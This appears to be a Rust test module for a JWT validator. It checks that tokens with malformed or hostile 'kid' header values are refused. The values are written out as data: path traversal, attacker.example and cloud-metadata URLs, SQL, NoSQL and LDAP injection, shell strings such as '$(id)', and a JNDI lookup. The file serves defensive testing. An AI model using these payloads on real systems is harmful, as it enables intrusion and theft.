//! Owns: the class of `kid` values (RFC 7515 section 4.1.4, RFC 8725 section 3.10). A sender chooses it, so it
//! is a name that is looked up among known keys: never a path, a query or an address.

use serde_json::{Value, json};

use super::Cases;
use super::scene::stranger;
use crate::algorithm::Algorithm;

/// A token with a `kid` that nobody published says that it is older than the keys, by which a validator can
/// tell an invented key from one that it has not seen yet.
pub(super) const AGE_SECS: u64 = 120;

pub(super) fn cases(c: &mut Cases<'_>) {
    let ours = c.scene.issuer.kid(Algorithm::ES256);
    let issued = c.scene.issuer.now().saturating_sub(AGE_SECS);
    let unknown = |kid: &str| c.mint().claim("iat", issued).header("kid", kid).sign();
    for (name, token) in [
        ("empty", unknown("")),
        ("unknown", unknown("nobody")),
        ("upper-case", unknown(&ours.to_ascii_uppercase())),
        ("space-after", unknown(&format!("{ours} "))),
        ("space-before", unknown(&format!(" {ours}"))),
        ("nul-after", unknown(&format!("{ours}\0"))),
        ("newline-after", unknown(&format!("{ours}\n"))),
        ("prefix", unknown(ours.trim_end_matches(|c: char| c.is_ascii_digit()))),
        ("slash-after", unknown(&format!("{ours}/"))),
        ("zero-width-space", unknown(&format!("{ours}\u{200b}"))),
        ("path-to-the-null-device", unknown("../../../../../../dev/null")),
        ("path-to-a-known-file", unknown("/proc/sys/kernel/randomize_va_space")),
        ("path-on-windows", unknown("..\\..\\windows\\win.ini")),
        ("path-then-ours", unknown(&format!("x/../{ours}"))),
        ("url", unknown("https://attacker.example/jwks.json")),
        ("url-of-metadata-service", unknown("http://169.254.169.254/latest/meta-data/")),
        ("file-url", unknown("file:///etc/hostname")),
        ("sql-union", unknown("x' UNION SELECT 'secret'-- ")),
        ("sql-or", unknown("' OR '1'='1")),
        ("nosql", unknown("{\"$ne\":null}")),
        ("shell", unknown("key|/bin/id")),
        ("shell-substitution", unknown("$(id)")),
        ("template", unknown("{{7*7}}")),
        ("jndi", unknown("${jndi:ldap://attacker.example/a}")),
        ("ldap", unknown("*)(kid=*")),
        ("header-injection", unknown("x\r\nSet-Cookie: a=b")),
        ("format-string", unknown("%s%s%s%n")),
        ("prototype", unknown("__proto__")),
        ("constructor", unknown("constructor")),
        ("number-text", unknown("0")),
        ("thousands-of-characters", unknown(&"k".repeat(4_000))),
    ] {
        c.refuse(format!("kid-{name}"), &token, "key_unknown");
    }
    for (name, kid) in [
        ("null", Value::Null),
        ("number", json!(0)),
        ("true", json!(true)),
        ("array", json!([ours])),
        ("object", json!({"kid": ours})),
    ] {
        c.refuse(
            format!("kid-of-type-{name}"),
            &c.mint().header("kid", kid).sign(),
            "token_header",
        );
    }
    c.accept("kid-missing-and-one-key-fits", &c.mint().without_header("kid").sign());
    let escaped = c.mint().header_text().replace(&ours, &escape(&ours));
    c.accept("kid-escaped", &c.with_header(escaped));
    let stranger = stranger();
    c.refuse("kid-ours-signature-of-a-stranger", &c.mint().sign_with(&stranger), "signature");
    let nameless = c.mint().without_header("kid").sign_with(&stranger);
    c.refuse("kid-missing-signature-of-a-stranger", &nameless, "signature");
}

fn escape(text: &str) -> String {
    text.chars().map(|c| format!("\\u{:04x}", u32::from(c))).collect()
}
